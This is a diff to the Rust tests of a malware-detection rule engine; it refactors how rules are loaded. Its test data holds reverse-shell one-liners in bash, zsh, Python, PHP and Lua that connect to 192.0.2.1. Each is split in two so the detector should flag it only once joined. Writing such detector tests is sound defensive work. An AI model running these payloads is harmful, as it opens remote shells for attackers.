@@ -1,4 +1,5 @@
 use super::*;
+use std::sync::LazyLock;
 
 fn hits(rules: &Rules, part: Part<'_>) -> Vec<(String, Meaning)> {
     let mut out = Vec::new();
@@ -121,9 +122,16 @@ fn shells_of_the_web_and_of_the_network_are_malware_in_one_line_or_in_many() {
     }
 }
 
+/// What the built-in rules say of a script, each with what it means.
+fn of_script(text: &str) -> Vec<String> {
+    static RULES: LazyLock<Rules> =
+        LazyLock::new(|| Rules::load("").unwrap_or_else(|error| panic!("{error}")));
+    let found = hits(&RULES, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
+    found.into_iter().map(|(rule, meaning)| format!("{rule}: {meaning:?}")).collect()
+}
+
 #[test]
 fn shells_over_the_network_are_for_people_to_look_at() {
-    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
     // In two parts: nothing here is to be found in the test itself.
     for parts in [
         ["zsh -i  >/dev/t", "cp/$HOST/$PORT"],
@@ -143,9 +151,7 @@ fn shells_over_the_network_are_for_people_to_look_at() {
         ["s=socket.crea", "te_connection((h,p))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')"],
         ["php -r '$sock=fsocko", "pen(\"192.0.2.1\",4444);shell_exec(\"sh <&3 >&3 2>&3\");'"],
     ] {
-        let text = parts.concat();
-        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
-        assert_eq!(found, [("shell_over_the_network".to_owned(), Meaning::Suspicious)], "{text}");
+        assert_eq!(of_script(&parts.concat()), ["shell_over_the_network: Suspicious"], "{parts:?}");
     }
     for text in [
         "nc -z 127.0.0.1 80 && exec su app -c /bin/sh",
@@ -155,14 +161,12 @@ fn shells_over_the_network_are_for_people_to_look_at() {
         "Started with bash -i it reads its files.\nIt opens /dev/tcp/HOST/PORT itself.",
         "mkfifo /run/x; cat /run/x | sh -i\nnc -z localhost 1",
     ] {
-        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
-        assert_eq!(found, [], "{text}");
+        assert_eq!(of_script(text), [""; 0], "{text}");
     }
 }
 
 #[test]
 fn commands_from_the_network_are_for_people_to_look_at() {
-    let rules = Rules::load("").unwrap_or_else(|error| panic!("{error}"));
     for parts in [
         ["exec 5<>/dev/t", "cp/192.0.2.1/4242; cat <&5 | while read line; do $line 2>&5 >&5; done"],
         ["exec 196<>/dev/t", "cp/192.0.2.1/4242; sh <&196 >&196 2>&196"],
@@ -196,9 +200,7 @@ fn commands_from_the_network_are_for_people_to_look_at() {
         ["zsh -c 'zmodload zsh/net/tcp && ztc", "p 192.0.2.1 4444; zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"],
         ["os.execute(\"/bin/sh -i <", "&3 >&3 2>&3\")"],
     ] {
-        let text = parts.concat();
-        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
-        assert_eq!(found, [("commands_from_the_network".to_owned(), Meaning::Suspicious)], "{text}");
+        assert_eq!(of_script(&parts.concat()), ["commands_from_the_network: Suspicious"], "{parts:?}");
     }
     for text in [
         "until exec 3<>/dev/tcp/db/5432; do sleep 1; done; while read -r line <&3; do echo \"$line\"; done",
@@ -215,8 +217,7 @@ fn commands_from_the_network_are_for_people_to_look_at() {
         ),
         "exec 3<>/dev/tcp/db/5432; while read -r f; do \"$LOGGER\" >&2; done",
     ] {
-        let found = hits(&rules, Part { path: "srv/x", bytes: text.as_bytes(), whole: true });
-        assert_eq!(found, [], "{text}");
+        assert_eq!(of_script(text), [""; 0], "{text}");
     }
 }
 
